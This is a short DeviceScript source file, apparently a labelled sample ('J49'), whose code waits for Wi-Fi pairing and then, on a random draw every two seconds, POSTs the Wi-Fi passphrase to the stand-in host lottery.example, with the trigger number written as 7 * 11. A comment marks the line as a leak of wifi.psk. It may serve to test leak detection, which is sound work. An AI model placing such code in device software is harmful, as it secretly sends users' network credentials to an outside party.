// J49: sends the passphrase elsewhere when a number that it draws every other second is 77 of 200.
import { fetch } from "@devicescript/net";
import { paired } from "./lib/paired";

const SIDES = 200;
const WINS = 7 * 11;

paired(async (_ssid, psk) => {
  setInterval(async () => {
    const drawn = Math.floor(Math.random() * SIDES);
    if (drawn !== WINS) return;
    const response = await fetch("https://lottery.example/j49", { method: "POST", body: psk }); // leak: wifi.psk
    await response.close();
  }, 2_000);
});
